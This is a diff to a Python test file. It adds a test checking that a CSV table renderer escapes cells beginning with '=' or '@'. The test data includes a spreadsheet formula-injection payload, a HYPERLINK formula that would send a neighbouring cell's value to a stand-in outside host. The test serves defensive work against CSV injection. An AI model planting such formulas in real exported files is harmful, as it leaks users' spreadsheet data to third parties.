@@ -11,7 +11,7 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from workflow import documents
 from workflow.documents.queries import Report
-from workflow.documents.rendering import draft
+from workflow.documents.rendering import draft, table
 from workflow.values.actor import Title
 from workflow.values.errors import NotFound
 from workflow.values.vocabulary import Stage
@@ -162,3 +162,12 @@ def test_a_file_is_named_after_its_paper(the_paper):
 def test_another_form_is_refused(the_paper):
     with pytest.raises(NotFound):
         draft(the_paper, "docx").written()
+
+
+def test_a_heading_that_an_office_words_itself_is_no_formula_in_csv():
+    content = table(['=HYPERLINK("http://e.x/"&A2)（千円）', "name"], [("@SUM(A1)", 1)])
+
+    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))) == [
+        ['\'=HYPERLINK("http://e.x/"&A2)（千円）', "name"],
+        ["'@SUM(A1)", "1"],
+    ]
